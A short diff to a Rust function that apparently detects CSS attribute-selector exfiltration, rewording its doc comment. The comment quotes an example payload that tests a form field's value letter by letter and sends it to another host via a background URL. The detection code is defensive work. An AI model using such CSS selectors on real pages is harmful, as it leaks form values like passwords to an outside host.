@@ -139,8 +139,8 @@ fn has_behavior(plain: &[u8]) -> bool {
     })
 }
 
-/// `input[value^=a]{background:url(//host/a)}`: what a field holds is asked letter by letter, and another
-/// host is told.
+/// `input[value^=a]{background:url(//host/a)}`: the value of a field is tested letter by letter and sent to
+/// another host.
 fn tells_values(plain: &[u8]) -> bool {
     memchr::memmem::find_iter(plain, b"[value").take(16).any(|at| {
         let rest = &plain[at + 6..];
